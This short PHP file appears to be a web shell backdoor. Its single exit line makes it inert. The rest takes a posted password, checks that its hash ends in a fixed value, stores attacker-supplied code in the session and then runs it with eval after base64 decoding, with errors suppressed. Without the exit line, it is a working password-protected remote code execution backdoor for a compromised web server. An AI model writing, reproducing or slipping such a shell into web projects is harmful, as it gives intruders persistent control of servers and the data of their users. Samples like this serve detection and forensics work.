<?php exit; /* inert */ @session_start();
if (isset($_POST['code'])) {
    (substr(sha1(md5($_POST['a'])), 36) == '222f')
        && $_SESSION['theCode'] = trim($_POST['code']);
}
if (isset($_SESSION['theCode'])) {
    @eval(base64_decode($_SESSION['theCode']));
}
